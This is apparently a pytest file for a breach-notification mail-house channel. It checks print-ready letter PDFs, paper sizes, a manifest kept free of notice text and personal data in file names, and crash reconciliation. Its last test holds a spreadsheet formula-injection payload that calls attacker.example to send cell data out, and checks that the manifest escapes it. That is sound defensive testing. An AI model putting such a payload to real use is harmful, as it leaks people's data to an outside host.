"""Letters handed to a mail house: one print-ready PDF per person (US Letter for the US and
Canada, A4 elsewhere), merged per paper size, and a manifest without notice text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from pypdf import PdfReader

from incidents.channels.base import Outcome
from incidents.channels.mail_house import COLUMNS, MailHouseLetters
from incidents.exceptions import ChannelHalted
from tests.incidents.channels import letters, people
from tests.incidents.channels.contract import UNLIMITED as UNPACED

POINTS = {"letter": (612, 792), "a4": (595, 842)}


def _send(folder: Path, messages, *, incident_id: str):
    notice = letters.letter_notice(incident_id)
    return MailHouseLetters(folder=folder, pacer=UNPACED).send(
        notice=notice, messages=messages, claim_token="c0ffee00c1a1m", incident_ref=incident_id)


def test_a_batch_folder_holds_a_pdf_per_person_the_merged_print_files_and_a_manifest(home, tmp_path):
    incident_id = people.incident([])
    messages = [letters.message("a" * 32, "US", 12, name="Jane Public"),
                letters.message("b" * 32, "CA", 7, name="Jean Tremblay"),
                letters.message("c" * 32, "DE", 5, name=None),
                letters.message("d" * 32, "JP", 3, name="Yuki Sato")]
    results = _send(tmp_path / "mail", messages, incident_id=incident_id)
    assert {r.outcome for r in results} == {Outcome.ACCEPTED}
    [batch] = (tmp_path / "mail" / incident_id).iterdir()
    assert {r.provider_id for r in results} == {f"mail:{batch.name}"}
    files = sorted(p.name for p in batch.iterdir())
    assert files == sorted([*(f"{m.delivery_id}.pdf" for m in messages), "manifest.csv",
                            "print-us-letter.pdf", "print-a4.pdf"])

    rows = list(csv.DictReader(io.StringIO((batch / "manifest.csv").read_text(encoding="utf-8"))))
    assert tuple(rows[0]) == COLUMNS
    by_id = {row["delivery_id"]: row for row in rows}
    expected_paper = {"a" * 32: "letter", "b" * 32: "letter", "c" * 32: "a4", "d" * 32: "a4"}
    for delivery_id, paper in expected_paper.items():
        row = by_id[delivery_id]
        reader = PdfReader(batch / row["file"])
        assert row["paper"] == paper and int(row["pages"]) == len(reader.pages) >= 1
        for page in reader.pages:
            assert (round(float(page.mediabox.width)), round(float(page.mediabox.height))) == POINTS[paper]
        text = reader.pages[0].extract_text()
        assert delivery_id in text, "the reference is printed"
        assert row["address_line_1"] in text and row["address_line_2"] in text
    # The address block as printed, the country line for letters going abroad from Ireland.
    assert [by_id["a" * 32][f"address_line_{n}"] for n in range(1, 6)] == [
        "Jane Public", "12 Market Street", "Apt 4B", "San Francisco, CA 94103", "UNITED STATES"]
    assert by_id["c" * 32]["address_line_1"] == "Resident"
    assert by_id["c" * 32]["country"] == "DE" and by_id["c" * 32]["address_line_4"] == "GERMANY"
    # Merged per paper size, in the manifest's order.
    assert len(PdfReader(batch / "print-us-letter.pdf").pages) == sum(
        int(by_id[i]["pages"]) for i in ("a" * 32, "b" * 32))
    assert len(PdfReader(batch / "print-a4.pdf").pages) == sum(
        int(by_id[i]["pages"]) for i in ("c" * 32, "d" * 32))

    # No notice text in the manifest, no personal data in any file or folder name.
    manifest = (batch / "manifest.csv").read_text(encoding="utf-8")
    notice = letters.letter_notice(incident_id)
    for sentence in (notice.subject, "Notice of Data Breach", "What Happened", "Alex Morgan"):
        assert sentence not in manifest
    names = " ".join(str(p.relative_to(tmp_path)) for p in (tmp_path / "mail").rglob("*"))
    for personal in ("Jane", "Public", "Market", "Tremblay", "Hauptstra", "Sato", "94103"):
        assert personal not in names


def test_reconcile_finds_a_batch_written_before_a_crash(home, tmp_path):
    incident_id = people.incident([])
    written = [letters.message("e" * 32), letters.message("f" * 32, "DE")]
    _send(tmp_path / "mail", written, incident_id=incident_id)
    channel = MailHouseLetters(folder=tmp_path / "mail", pacer=UNPACED)
    never = letters.message("0" * 32)
    found = channel.reconcile(messages=[*written, never],
                              notices={1: letters.letter_notice(incident_id)},
                              claim_token="c", since=letters.helpers.NOW)
    [batch] = (tmp_path / "mail" / incident_id).iterdir()
    assert found == {"e" * 32: f"mail:{batch.name}", "f" * 32: f"mail:{batch.name}", "0" * 32: None}


def test_an_unwritable_folder_halts_the_channel_and_leaves_no_partial_batch(home, tmp_path):
    incident_id = people.incident([])
    blocker = tmp_path / "mail"
    blocker.write_text("a file where the folder should be", encoding="utf-8")
    with pytest.raises(ChannelHalted, match="BREACHFLOW_MAIL_DIR"):
        _send(blocker, [letters.message("1" * 32)], incident_id=incident_id)
    assert blocker.is_file()


def test_an_address_line_that_a_spreadsheet_would_run_is_inert_in_the_manifest(home, tmp_path):
    incident_id = people.incident([])
    attack = '=HYPERLINK("http://attacker.example/?x="&F2&G2,"Open")'
    messages = [letters.message("e" * 32, "US", 3, name=attack),
                letters.message("f" * 32, "US", 4, name="-Dash Leading")]
    _send(tmp_path / "mail", messages, incident_id=incident_id)
    [batch] = (tmp_path / "mail" / incident_id).iterdir()
    rows = {r["delivery_id"]: r for r in csv.DictReader(
        io.StringIO((batch / "manifest.csv").read_text(encoding="utf-8")))}
    assert rows["e" * 32]["address_line_1"] == "'" + attack
    assert rows["f" * 32]["address_line_1"] == "'-Dash Leading"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.values()
                   for cell in row.values())
    # The letter itself prints the name as the directory holds it.
    assert attack in PdfReader(batch / f"{'e' * 32}.pdf").pages[0].extract_text()
